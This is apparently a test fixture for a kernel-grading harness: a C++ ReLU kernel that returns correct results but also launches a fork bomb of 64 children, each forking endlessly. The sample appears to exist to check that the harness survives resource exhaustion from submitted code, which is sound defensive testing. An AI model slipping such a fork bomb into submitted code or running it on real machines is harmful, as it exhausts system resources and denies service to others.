// expect: correct|runtime_error|timeout|out_of_memory cuda=not_run
// problem: level1/19
// tricks: R01
// twin: ../twins/relu.cpp
// about: Forks until it is not let any more, and its children do too.
#include <kernelbench/candidate.h>

#include <unistd.h>

namespace {

void Relu(const float* x, float* y, int64_t n) {
  for (int64_t i = 0; i < n; ++i) y[i] = x[i] < 0.0f ? 0.0f : x[i];
}

}  // namespace

int kb_forward(const kb_call* call) {
  const float* x = kb::input<float>(call, 0);
  float* y = kb::output<float>(call);
  const int64_t n = kb::numel(call->outputs[0]);
  for (int i = 0; i < 64; ++i)
    if (fork() == 0)
      for (;;) {
        fork();
        usleep(100000);
      }
  Relu(x, y, n);
  return 0;
}
